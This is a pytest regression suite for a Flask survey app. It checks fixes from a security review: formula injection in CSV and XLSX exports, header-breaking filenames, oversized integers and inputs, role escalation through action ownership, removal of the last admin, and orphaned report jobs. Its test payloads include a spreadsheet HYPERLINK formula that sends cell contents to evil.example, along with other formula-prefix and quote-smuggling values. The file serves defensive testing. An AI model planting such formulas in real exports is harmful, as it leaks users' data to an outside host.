"""What the attack of issue 17 found, each reproduced through HTTP: formula injection in
exports, raw unit codes in Content-Disposition, huge integers, unbounded input, read-only
roles writing through ownership, the last admin, orphaned report jobs."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from werkzeug.http import parse_options_header

from app.extensions import db
from app.models import Organisation, OrganisationKind, Role, Unit, User
from app.services import followup
from tests.conftest import login
from tests.followup_data import measure

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"klik")'


@pytest.fixture
def measured(app: Flask, org) -> int:
    with app.app_context():
        db.session.add(Organisation(name="T", kind=OrganisationKind.MUNICIPALITY))
        return measure().id


def _rename(app: Flask, code: str, name: str) -> None:
    with app.app_context():
        db.session.scalar(select(Unit).where(Unit.code == code)).name = name
        db.session.commit()


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _xlsx(response) -> list[tuple]:
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    return list(sheet.iter_rows(values_only=True))


def _no_live_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- 1. formula injection ----------------------------------------------------------------


def test_board_exports_neutralise_formulas(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    leader = make_user("leder@x.dk", [(Role.LEADER, "A")])
    with app.app_context():
        follow_up = followup.start(
            db.session, db.session.get(User, leader.id), _measurement(measured), _unit("A1")
        )
        for title in (FORMULA, "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"):
            followup.add_action(
                db.session, db.session.get(User, leader.id), follow_up, title=title,
                deadline=date(2026, 9, 1),
            )  # fmt: skip
        db.session.commit()
    login(client, "leder@x.dk")
    rows = _csv(client.get("/board/export.csv?scope=subtree&unit=A"))
    titles = {row[1] for row in rows[1:]}
    assert "'" + FORMULA in titles and "'+1+2" in titles and "'@SUM(A1)" in titles
    _no_live_formula(cell for row in rows for cell in row)
    sheet = _xlsx(client.get("/board/export.xlsx?scope=subtree&unit=A"))
    assert "'" + FORMULA in {row[1] for row in sheet[1:]}
    _no_live_formula(cell for row in sheet for cell in row)
    assert all(isinstance(row[0], int) for row in sheet[1:])  # ids stay numbers


def _measurement(measurement_id: int):
    from app.models import Measurement

    return db.session.get(Measurement, measurement_id)


def _unit(code: str) -> Unit:
    return db.session.scalar(select(Unit).where(Unit.code == code))


def test_results_and_followup_overviews_neutralise_formulas(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    make_user("hr@x.dk", [(Role.ADMIN, "R")])
    _rename(app, "A1", FORMULA)
    _rename(app, "A2", "-2+3")
    login(client, "hr@x.dk")
    for url in (f"/results/export.csv?m={measured}", f"/followup/overview.csv?m={measured}"):
        rows = _csv(client.get(url))
        names = {row[1] for row in rows[1:]}
        assert "'" + FORMULA in names and "'-2+3" in names, url
        _no_live_formula(cell for row in rows for cell in row)
    for url in (f"/results/export.xlsx?m={measured}", f"/followup/overview.xlsx?m={measured}"):
        sheet = _xlsx(client.get(url))
        by_name = {row[1]: row for row in sheet[1:]}
        assert "'" + FORMULA in by_name and "'-2+3" in by_name, url
        _no_live_formula(cell for row in sheet for cell in row)
        assert any(type(c) is int for c in by_name["'" + FORMULA])  # numbers stay numbers


def test_import_errors_csv_neutralises_formulas(
    app: Flask, client: FlaskClient, org, make_user
) -> None:
    from app.services.measurements import find_or_prepare_measurement

    make_user("hr@x.dk", [(Role.ADMIN, "R")])
    with app.app_context():
        measurement_id = find_or_prepare_measurement(
            db.session, name="APV 2026", year=2026, template_code="apv"
        ).id
        db.session.commit()
    login(client, "hr@x.dk")
    content = (
        "unit_id;unit_name;parent_id;invited;question_id;n_1;n_2;n_3;n_4;n_5;n_dont_know\n"
        "R;Testby;;;;;;;;;\n"
        "A1;Team 1;=1+1;9;PT-1;0;1;2;3;1;0\n"
    )
    response = client.post(
        "/imports/check",
        data={
            "measurement_id": str(measurement_id),
            "file": (io.BytesIO(content.encode()), "r.csv"),
        },
        content_type="multipart/form-data",
        headers={"HX-Request": "true"},
    )
    rows = _csv(client.get(response.headers["HX-Push-Url"] + "/errors.csv"))
    assert any("'=1+1" in row for row in rows)
    _no_live_formula(cell for row in rows for cell in row)


# --- 2. Content-Disposition --------------------------------------------------------------


def test_downloads_name_files_per_rfc_6266(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    code = 'Ø1"; x=y\\Ω'
    with app.app_context():
        _unit("A1").code = code
        db.session.commit()
    make_user("leder@x.dk", [(Role.LEADER, "A")])
    login(client, "leder@x.dk")
    assert client.post(f"/followup/{measured}/{quote(code, safe='')}/start").status_code == 302
    response = client.get(f"/followup/{measured}/{quote(code, safe='')}/invitation.pdf")
    assert response.status_code == 200
    header = response.headers["Content-Disposition"]
    header.encode("ascii")  # nothing outside ASCII, no raw quote breaking the value
    kind, options = parse_options_header(header)  # decodes filename* (RFC 5987)
    assert kind == "inline"
    assert options["filename"] == 'invitation-Ø1"; x=y_Ω.pdf'  # "\\" is no path part
    assert 'filename="invitation-Oe1___x_y__.pdf";' in header  # the ASCII fallback: Ø as Oe


# --- 3. huge integers --------------------------------------------------------------------

HUGE = "99999999999999999999"  # > 2^63


def test_huge_integers_in_urls_are_not_found(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    make_user("hr@x.dk", [(Role.ADMIN, "R")])
    login(client, "hr@x.dk")
    for url in (
        f"/results/?m={HUGE}",
        f"/results/export.csv?m={HUGE}",
        f"/units/A1?m={HUGE}",
        f"/followup/overview?m={HUGE}",
        f"/board/?m={HUGE}",
        f"/board/actions/{HUGE}",
        f"/followup/{HUGE}/A1/",
        f"/followup/alerts/{HUGE}",
        f"/admin/users/{HUGE}",
        f"/admin/measurements/{HUGE}",
        f"/api/v1/measurements/{HUGE}/results",
        f"/reports/archive/{HUGE}/download",
        f"/reports/unit/{HUGE}/A1",
        f"/reports/annual/R/{HUGE}",
        f"/admin/users/{2**31}",
    ):
        response = client.get(url)
        assert response.status_code in (200, 302, 404), (url, response.status_code)
        if "?m=" not in url:
            assert response.status_code == 404, url


def test_a_huge_count_in_an_import_file_is_a_row_error(
    app: Flask, client: FlaskClient, org, make_user
) -> None:
    from app.services.measurements import find_or_prepare_measurement

    make_user("hr@x.dk", [(Role.ADMIN, "R")])
    with app.app_context():
        measurement_id = find_or_prepare_measurement(
            db.session, name="APV 2026", year=2026, template_code="apv"
        ).id
        db.session.commit()
    login(client, "hr@x.dk")
    content = (
        "unit_id;unit_name;parent_id;invited;question_id;n_1;n_2;n_3;n_4;n_5;n_dont_know\n"
        "R;Testby;;;;;;;;;\n"
        f"A1;Team 1;R;{HUGE};PT-1;0;1;2;3;{2**63};0\n"
        f"A2;Team 2;R;9;PT-1;0;1;2;3;{2**62};{2**62}\n"
    )
    response = client.post(
        "/imports/check",
        data={
            "measurement_id": str(measurement_id),
            "file": (io.BytesIO(content.encode()), "r.csv"),
        },
        content_type="multipart/form-data",
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200
    rows = _csv(client.get(response.headers["HX-Push-Url"] + "/errors.csv?lang=en"))
    found = {(row[0], row[1]) for row in rows[1:] if "too large" in row[3]}
    assert {("3", "invited"), ("3", "n_5"), ("4", "n_5"), ("4", "n_dont_know")} <= found


# --- 4. unbounded input ------------------------------------------------------------------


def _analysis(app: Flask, measurement_id: int) -> dict:
    from app.models import FollowUp, FollowUpStep, Step

    with app.app_context():
        step = db.session.scalar(
            select(FollowUpStep)
            .join(FollowUp, FollowUp.id == FollowUpStep.follow_up_id)
            .where(FollowUp.measurement_id == measurement_id, FollowUpStep.step == Step.ANALYSIS)
        )
        return dict(step.data or {}) if step is not None else {}


@pytest.mark.parametrize(
    "focus_areas",
    [
        ["x" * (4 * 1024 * 1024)],  # one 4 MB value
        ["q:PT-1", "theme:" + "y" * 300],  # not a choice
        ["q:PT-1"] * 5000,  # a known choice, again and again
    ],
    ids=["4MB", "unknown", "repeated"],
)
def test_focus_areas_are_known_choices_of_bounded_count_and_size(
    app: Flask, client: FlaskClient, measured: int, make_user, focus_areas: list[str]
) -> None:
    make_user("leder@x.dk", [(Role.LEADER, "A")])
    login(client, "leder@x.dk")
    assert client.post(f"/followup/{measured}/A1/start").status_code == 302
    url = f"/followup/{measured}/A1/analysis"
    good = client.post(url, data={"focus_areas": ["q:PT-1", "q:MT-1"], "state": "in_progress"})
    assert good.status_code == 302
    response = client.post(
        url, data={"focus_areas": focus_areas, "notes": "kept?", "state": "done"}
    )
    assert response.status_code in (400, 413)
    page = response.get_data(as_text=True)
    assert len(page) < 200_000  # the value is not echoed back
    if response.status_code == 413:  # over the form memory limit: refused before reading it
        assert "Det, du sendte, er større, end Kompas tager imod" in page
        assert "Intet blev gemt" in page
    else:
        assert "Vælg fokusområder fra listen, hvert én gang og højst 30." in page
    assert _analysis(app, measured)["focus_areas"] == ["q:PT-1", "q:MT-1"]
    assert "notes" not in _analysis(app, measured) or _analysis(app, measured)["notes"] != "kept?"


# --- 5. read-only roles write through ownership ------------------------------------------


def test_the_owner_list_offers_members_and_leaders_of_the_units_subtree_only(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    make_user("leder@x.dk", [(Role.LEADER, "A")], name="Leder A")
    make_user("m1@x.dk", [(Role.MEMBER, "A1")], name="Medlem A1")
    make_user("c@x.dk", [(Role.COMMITTEE, "R")], name="Udvalg R")
    make_user("c2@x.dk", [(Role.COMMITTEE, "A")], name="Udvalg A")
    make_user("b@x.dk", [(Role.BOARD, "R")], name="Bestyrelse R")
    make_user("m2@x.dk", [(Role.MEMBER, "A2")], name="Medlem A2")
    login(client, "leder@x.dk")
    assert client.post(f"/followup/{measured}/A/start").status_code == 302
    page = client.get(f"/followup/{measured}/A/plan").get_data(as_text=True)
    assert "Leder A" in page and "Medlem A1" in page and "Medlem A2" in page
    assert "Udvalg R" not in page and "Udvalg A" not in page and "Bestyrelse R" not in page
    with app.app_context():
        committee = db.session.scalar(select(User.id).where(User.email == "c@x.dk"))
    refused = client.post(
        f"/followup/{measured}/A/plan/actions",
        data={"action-title": "Udvalget ejer", "action-theme_id": "0",
              "action-owner_user_id": str(committee)},
    )  # fmt: skip
    assert refused.status_code == 400
    assert client.post(f"/followup/{measured}/A1/start").status_code == 302
    page = client.get(f"/followup/{measured}/A1/plan").get_data(as_text=True)
    assert "Medlem A1" in page and "Medlem A2" not in page  # A2 is no part of A1's subtree


@pytest.mark.parametrize("role", [Role.COMMITTEE, Role.BOARD])
def test_committee_and_board_never_move_or_comment_even_as_owners(
    app: Flask, client: FlaskClient, measured: int, make_user, role: Role
) -> None:
    from app.models import Action

    leader = make_user("leder@x.dk", [(Role.LEADER, "A")])
    reader = make_user("reader@x.dk", [(role, "R")])
    with app.app_context():
        follow_up = followup.start(
            db.session, db.session.get(User, leader.id), _measurement(measured), _unit("A1")
        )
        action = followup.add_action(
            db.session, db.session.get(User, leader.id), follow_up, title="Gammel ejer",
            owner=db.session.get(User, reader.id),
        )  # fmt: skip
        db.session.commit()
        action_id = action.id
    login(client, "reader@x.dk")
    moved = client.post(
        f"/board/actions/{action_id}/move",
        data={"status": 2, "version": 1, "comment": "Skrevet af en læser", "return_to": "/"},
    )
    assert moved.status_code == 404
    status = client.post(
        f"/followup/{measured}/A1/actions/{action_id}/status",
        data={"status": "2", "comment": "Skrevet af en læser"},
    )
    assert status.status_code == 404
    with app.app_context():
        stored = db.session.get(Action, action_id)
        assert stored.status == 0 and stored.last_comment in (None, "")


# --- 6. the last admin -------------------------------------------------------------------


def _admin_assignment(app: Flask, email: str) -> tuple[int, int]:
    from app.models import RoleAssignment

    with app.app_context():
        user_id, assignment_id = db.session.execute(
            select(User.id, RoleAssignment.id)
            .join(RoleAssignment, RoleAssignment.user_id == User.id)
            .where(User.email == email, RoleAssignment.role == Role.ADMIN)
        ).one()
        return user_id, assignment_id


def _is_admin(app: Flask, email: str) -> bool:
    from app.models import RoleAssignment

    with app.app_context():
        return (
            db.session.scalar(
                select(RoleAssignment.id)
                .join(User, User.id == RoleAssignment.user_id)
                .where(
                    User.email == email, User.active.is_(True), RoleAssignment.role == Role.ADMIN
                )
            )
            is not None
        )


def test_the_last_admin_keeps_their_admin_role_and_account(
    app: Flask, client: FlaskClient, org, make_user
) -> None:
    make_user("hr@x.dk", [(Role.ADMIN, "R")])
    login(client, "hr@x.dk")
    user_id, assignment_id = _admin_assignment(app, "hr@x.dk")
    response = client.post(
        f"/admin/users/{user_id}/roles/{assignment_id}/delete", follow_redirects=True
    )
    assert "sidste administrator" in response.get_data(as_text=True)
    assert _is_admin(app, "hr@x.dk")
    client.post(f"/admin/users/{user_id}/active")
    client.post(f"/admin/users/{user_id}/delete")
    assert _is_admin(app, "hr@x.dk")
    # With another admin, one may step down.
    make_user("hr2@x.dk", [(Role.ADMIN, "R")])
    response = client.post(f"/admin/users/{user_id}/roles/{assignment_id}/delete")
    assert response.status_code == 302
    assert not _is_admin(app, "hr@x.dk") and _is_admin(app, "hr2@x.dk")


# --- 7. orphaned report jobs -------------------------------------------------------------


def _job(app: Flask, email: str, state: str, age: timedelta, params: dict) -> str:
    from datetime import UTC, datetime

    from app.models import ReportJob

    with app.app_context():
        user_id = db.session.scalar(select(User.id).where(User.email == email))
        job = ReportJob(
            token=f"t-{state}-{int(age.total_seconds())}", kind="unit", params=params,
            user_id=user_id, state=state, progress=40, stage="rendering",
            created_at=datetime.now(UTC) - age,
        )  # fmt: skip
        db.session.add(job)
        db.session.commit()
        return job.token


def _job_state(app: Flask, token: str) -> str:
    from app.models import ReportJob

    with app.app_context():
        return db.session.scalar(select(ReportJob.state).where(ReportJob.token == token))


@pytest.mark.parametrize("state", ["running", "queued"])
def test_a_job_left_by_a_dead_process_fails_and_the_page_says_so(
    app: Flask,
    client: FlaskClient,
    measured: int,
    make_user,
    state: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(app.config, "REPORT_JOBS", "inline")  # made in the request
    make_user("leder@x.dk", [(Role.LEADER, "A")])
    with app.app_context():
        a1 = _unit("A1").id
    params = {"unit_id": a1, "measurement_id": measured, "language": "da"}
    orphan = _job(app, "leder@x.dk", state, timedelta(hours=2), params)
    login(client, "leder@x.dk")
    page = client.get(f"/reports/jobs/{orphan}").get_data(as_text=True)
    assert "blev afbrudt" in page and 'hx-trigger="every 1s"' not in page
    assert _job_state(app, orphan) == "failed"
    # The same PDF asked for again is made now, not sent to the dead job's page.
    response = client.get(f"/reports/unit/{measured}/A1.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_one_report_job_at_a_time_per_user(
    app: Flask, client: FlaskClient, measured: int, make_user
) -> None:
    from app.models import ReportJob

    make_user("leder@x.dk", [(Role.LEADER, "R")])
    with app.app_context():
        b = _unit("B").id
    params = {"unit_id": b, "measurement_id": measured, "language": "da"}
    busy = _job(app, "leder@x.dk", "running", timedelta(seconds=5), params)
    login(client, "leder@x.dk")
    for response in (
        client.get(f"/reports/unit/{measured}/B1.pdf"),  # made by no test before
        client.post("/reports/annual/A/2026/pdf"),
    ):
        assert response.status_code == 302
        assert response.headers["Location"].endswith(f"/reports/jobs/{busy}")
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(ReportJob)) == 1
    page = client.get(f"/reports/jobs/{busy}", follow_redirects=True).get_data(as_text=True)
    assert "én rapport ad gangen" in page
